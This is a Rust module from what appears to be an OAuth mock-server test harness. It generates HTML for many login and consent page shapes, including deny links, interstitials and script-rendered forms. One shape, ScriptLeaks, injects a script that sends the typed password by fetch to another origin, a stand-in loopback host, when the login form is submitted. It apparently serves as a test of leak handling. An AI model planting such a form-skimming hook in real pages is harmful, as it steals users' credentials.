//! The shapes of login and consent pages real servers serve
//! ([`LoginPages`]), and the mock's HTML for each: one shape per mock at a
//! time, switched by a step or for a whole run.

use super::http::param;

/// Suffixes of the authorize path where the pages post and link to.
pub const LOGIN_SUFFIX: &str = "login";
pub const CONSENT_SUFFIX: &str = "consent";
/// The second form of [`LoginPages::DenyForm`].
pub const DENY_SUFFIX: &str = "deny";
/// The link of [`LoginPages::DenyLink`].
pub const ABORT_SUFFIX: &str = "abort";
/// Where the interstitial of [`LoginPages::Interstitial`] posts.
pub const CONTINUE_SUFFIX: &str = "continue";
/// Where the login origin sends the user back, to the consent page.
pub const CONSENT_PAGE_SUFFIX: &str = "consent-page";
/// The consent form's hidden CSRF token field (RFC 6749 §10.12).
pub const CSRF_FIELD: &str = "csrf_token";

macro_rules! login_pages {
    ($( $variant:ident => $name:literal, $what:literal; )*) => {
        /// A shape of login and consent pages, as real servers serve them.
        /// The mock serves one shape at a time; every shape is conforming
        /// OAuth, so every scenario must pass (or be set aside with its
        /// reason) on each.
        #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
        pub enum LoginPages {
            #[default]
            $(
                #[doc = $what]
                $variant,
            )*
        }

        impl LoginPages {
            pub const ALL: [LoginPages; [$($name),*].len()] = [$(LoginPages::$variant),*];

            /// The name a run option or a step uses.
            pub fn name(self) -> &'static str {
                match self { $(LoginPages::$variant => $name,)* }
            }

            /// What the shape is, in one line.
            pub fn what(self) -> &'static str {
                match self { $(LoginPages::$variant => $what,)* }
            }

            pub fn from_name(name: &str) -> Option<Self> {
                match name { $($name => Some(LoginPages::$variant),)* _ => None }
            }
        }
    };
}

login_pages! {
    Standard => "standard",
        "A login form; a consent form with a <select> of accounts, an unnamed Cancel submit and allow=Authorize (Django OAuth Toolkit's shape).";
    RadioAccounts => "radio-accounts",
        "The accounts as labelled radio buttons (the first checked) and an unchecked \"remember\" checkbox.";
    UnnamedApprove => "unnamed-approve",
        "An approve button without a name (<button type=submit>Authorize</button>) and a named Cancel.";
    DenyForm => "deny-form",
        "Approve is the consent form's only button; deny is a second form (\"Decline\").";
    DenyLink => "deny-link",
        "Approve is an unnamed \"Continue\" button; deny is a \"[ Cancel ]\" link (oidc-provider's shape).";
    Interstitial => "interstitial",
        "After the login, a page that submits itself on load (\"Continue\" for browsers without scripts).";
    NoLogin => "no-login",
        "No login page (the user has a session): a consent page when there is an account to choose, else straight back with a code.";
    SecondOrigin => "second-origin",
        "The login page is served by a second loopback origin, which sends the user back to the consent page.";
    NoDeny => "no-deny",
        "A consent page with an approve button and no way to deny.";
    ScriptOnly => "script-only",
        "Login and consent pages that only a script can render: no form in the HTML (a browser shows the standard shape's forms).";
    ScriptLeaks => "script-leaks",
        "A login page a script renders, whose script also posts the password to another origin (http://127.0.0.1:9) when the form is sent.";
}

impl LoginPages {
    /// Whether the consent form's submission means "approve".
    pub fn approved(self, params: &[(String, String)]) -> bool {
        match self {
            LoginPages::UnnamedApprove => param(params, "cancel").is_none(),
            LoginPages::DenyForm | LoginPages::DenyLink | LoginPages::NoDeny => true,
            _ => param(params, "allow").is_some(),
        }
    }
}

pub fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Where the [`LoginPages::ScriptLeaks`] page's script sends the password.
pub const LEAK_URL: &str = "http://127.0.0.1:9/collect";

/// `html` as a script renders it: the page itself holds only the script,
/// which writes `html` in once the document is parsed.
fn script_rendered(html: &str, extra_script: &str) -> String {
    let literal = serde_json::to_string(html)
        .unwrap_or_default()
        .replace('<', "\\u003c");
    format!(
        "<div id=\"app\">Loading…</div><script>\
         document.addEventListener('DOMContentLoaded', function () {{\
         document.getElementById('app').innerHTML = {literal};{extra_script}}});</script>"
    )
}

/// The login form, posting to `action`.
pub fn login_form(pages: LoginPages, action: &str, session: &str, message: &str) -> String {
    let form = plain_login_form(action, session, message);
    match pages {
        LoginPages::ScriptOnly => script_rendered(&form, ""),
        LoginPages::ScriptLeaks => script_rendered(
            &form,
            &format!(
                "document.forms[0].addEventListener('submit', function () {{\
                 fetch('{LEAK_URL}', {{method: 'POST', mode: 'no-cors', \
                 body: document.forms[0].password.value}});}});"
            ),
        ),
        _ => form,
    }
}

fn plain_login_form(action: &str, session: &str, message: &str) -> String {
    format!(
        "<h1>Log in</h1><p>{message}</p>\
         <form method=\"post\" action=\"{action}\">\
         <input type=\"hidden\" name=\"session\" value=\"{session}\">\
         <label>Username <input name=\"username\"></label>\
         <label>Password <input type=\"password\" name=\"password\"></label>\
         <button type=\"submit\">Log in</button></form>"
    )
}

/// The page between the login and the consent that goes on by itself.
pub fn interstitial(authorize_path: &str, session: &str) -> String {
    format!(
        "<body onload=\"document.forms[0].submit()\"><p>One moment…</p>\
         <form method=\"post\" action=\"{authorize_path}{CONTINUE_SUFFIX}\">\
         <input type=\"hidden\" name=\"session\" value=\"{session}\">\
         <noscript><button type=\"submit\">Continue</button></noscript></form></body>"
    )
}

/// What the consent page shows and carries.
pub struct Consent<'a> {
    pub authorize_path: &'a str,
    pub session: &'a str,
    /// The token an approval must carry back (RFC 6749 §10.12); `None`: a
    /// form without one (nor the session field), bound to the session
    /// cookie alone.
    pub csrf_token: Option<&'a str>,
    pub client_id: &'a str,
    pub scope: &'a str,
    pub accounts: &'a [String],
}

/// The account choice: one account is a hidden field; several are a
/// select, or radio buttons.
fn accounts(pages: LoginPages, accounts: &[String]) -> String {
    if accounts.len() <= 1 {
        let only = accounts.first().map(String::as_str).unwrap_or_default();
        return format!(
            "<input type=\"hidden\" name=\"account\" value=\"{}\">",
            escape(only)
        );
    }
    if pages == LoginPages::RadioAccounts {
        let radios: String = accounts
            .iter()
            .enumerate()
            .map(|(i, a)| {
                let label = capitalise(a);
                format!(
                    "<label><input type=\"radio\" name=\"account\" value=\"{}\"{}> {}</label>",
                    escape(a),
                    if i == 0 { " checked" } else { "" },
                    escape(&label)
                )
            })
            .collect();
        return format!(
            "<fieldset><legend>Account</legend>{radios}</fieldset>\
             <label><input type=\"checkbox\" name=\"remember\" value=\"1\"> Remember this choice</label>"
        );
    }
    let options: String = accounts
        .iter()
        .map(|a| format!("<option value=\"{a}\">{a}</option>", a = escape(a)))
        .collect();
    format!("<label>Account <select name=\"account\">{options}</select></label>")
}

fn capitalise(s: &str) -> String {
    let mut chars = s.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

/// The consent page in the shape `pages` says.
pub fn consent(pages: LoginPages, c: &Consent<'_>) -> String {
    let path = c.authorize_path;
    let session = c.session;
    let hidden = match c.csrf_token {
        Some(token) => format!(
            "<input type=\"hidden\" name=\"session\" value=\"{session}\">\
             <input type=\"hidden\" name=\"{CSRF_FIELD}\" value=\"{}\">",
            escape(token)
        ),
        None => String::new(),
    };
    let choice = accounts(pages, c.accounts);
    let buttons = match pages {
        LoginPages::UnnamedApprove => {
            "<button type=\"submit\" name=\"cancel\" value=\"1\">Cancel</button>\
             <button type=\"submit\">Authorize</button>"
                .to_owned()
        }
        LoginPages::DenyForm => "<button type=\"submit\">Approve</button>".to_owned(),
        LoginPages::DenyLink => "<button type=\"submit\">Continue</button>".to_owned(),
        LoginPages::NoDeny => "<button type=\"submit\">Authorize</button>".to_owned(),
        _ => "<input type=\"submit\" value=\"Cancel\">\
              <input type=\"submit\" name=\"allow\" value=\"Authorize\">"
            .to_owned(),
    };
    let after = match pages {
        LoginPages::DenyForm => format!(
            "<form method=\"post\" action=\"{path}{DENY_SUFFIX}\">{hidden}\
             <button type=\"submit\">Decline</button></form>"
        ),
        LoginPages::DenyLink => {
            format!("<p><a href=\"{path}{ABORT_SUFFIX}?session={session}\">[ Cancel ]</a></p>")
        }
        _ => String::new(),
    };
    let page = format!(
        "<h1>Authorize {client}</h1><p>{client} asks for: {scope}</p>\
         <form method=\"post\" action=\"{path}{CONSENT_SUFFIX}\">{hidden}{choice}{buttons}</form>{after}",
        client = escape(c.client_id),
        scope = escape(c.scope),
    );
    match pages {
        LoginPages::ScriptOnly => script_rendered(&page, ""),
        _ => page,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_shape_has_a_name_that_reads_back() {
        for pages in LoginPages::ALL {
            assert_eq!(LoginPages::from_name(pages.name()), Some(pages));
            assert!(!pages.what().is_empty());
        }
        assert_eq!(LoginPages::default(), LoginPages::Standard);
    }

    #[test]
    fn approval_is_read_the_way_each_shape_submits_it() {
        let with = |k: &str| vec![(k.to_owned(), "x".to_owned())];
        assert!(LoginPages::Standard.approved(&with("allow")));
        assert!(!LoginPages::Standard.approved(&with("session")));
        assert!(LoginPages::UnnamedApprove.approved(&with("session")));
        assert!(!LoginPages::UnnamedApprove.approved(&with("cancel")));
        assert!(LoginPages::DenyLink.approved(&[]));
    }
}
